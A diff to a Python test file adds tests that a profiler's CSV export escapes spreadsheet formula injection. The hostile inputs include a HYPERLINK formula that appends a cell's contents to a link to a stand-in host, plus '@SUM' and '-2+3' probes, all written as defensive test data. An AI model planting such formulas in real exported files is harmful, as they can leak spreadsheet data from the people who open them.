@@ -3,7 +3,9 @@ unit whose words and drop-in names are hostile), what show, explain, check, diff
 lines of printable characters, each line one line of the output's own making; JSON stays exact.
 """
 
+import csv
 import dataclasses
+import io
 import json
 import re
 import tempfile
@@ -25,7 +27,7 @@ from generators.systemd.groups import committed_syscall_groups
 from profiler import explore, show
 from profiler.cli import main
 from profiler.trace import Trace
-from tests.generators.hostile_traces import HOSTILE, HOSTILE_FILE_TEXT, hostile_profiles, hostile_traces
+from tests.generators.hostile_traces import HOSTILE, HOSTILE_FILE_TEXT, base_trace, hostile_profiles, hostile_traces
 from tests.generators.profile_builders import make_profile
 
 RUNS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -75,13 +77,42 @@ def test_show_prints_printable_lines(trace: Trace, source: str) -> None:
 def test_csv_rows_are_one_printable_line_each_and_json_is_exact(trace: Trace, source: str) -> None:
     tables = explore.tables([(source + ".trace.json", trace)])
     for table in explore.Table:
-        lines = _printable_lines(explore.to_csv(tables, table))
+        text = explore.to_csv(tables, table)
+        lines = _printable_lines(text)
         assert len(lines) == 1 + len(tables.table(table))
+        assert not _formula_cells(text, table)
     text = explore.to_json(tables)
     assert all(line.isprintable() for line in text.split("\n"))
     document = json.loads(text)
     assert document["runs"][0]["hostname"] == trace.run.hostname
     assert document["images"][0]["program"] == trace.processes[0].images[0].path
+
+
+def _formula_cells(text: str, table: explore.Table) -> list[str]:
+    """The text cells of a CSV table that a spreadsheet would run as formulas (OWASP's first characters)."""
+    texts = [index for index, (_, dtype) in enumerate(explore.COLUMNS[table]) if dtype == "str"]
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    return [row[index] for row in rows for index in texts if row[index].startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_csv_leads_a_text_that_begins_as_a_formula_with_a_quote() -> None:
+    base = base_trace("chown")
+    program = '=HYPERLINK("http://example.invalid/?"&A1)'
+    process = base.processes[0]
+    image = process.images[0]._replace(path=program, argv0="@SUM(1+1)")
+    hostile = dataclasses.replace(
+        base,
+        run=dataclasses.replace(base.run, command=("-2+3", "x")),
+        processes=(process._replace(images=(image, *process.images[1:])), *base.processes[1:]),
+    )
+    tables = explore.tables([("+hostile.trace.json", hostile)])
+    images = explore.to_csv(tables, explore.Table.IMAGES)
+    row = next(csv.DictReader(io.StringIO(images)))
+    assert (row["program"], row["argv0"], row["run"]) == (f"'{program}", "'@SUM(1+1)", "'+hostile"), row
+    runs = next(csv.DictReader(io.StringIO(explore.to_csv(tables, explore.Table.RUNS))))
+    assert (runs["command"], runs["source"]) == ("'-2+3 x", "'+hostile.trace.json"), runs
+    # A text that does not begin as a formula does is left as it is.
+    assert runs["component"] == hostile.run.component, runs
 
 
 # --- explain ---------------------------------------------------------------------------------------------------------
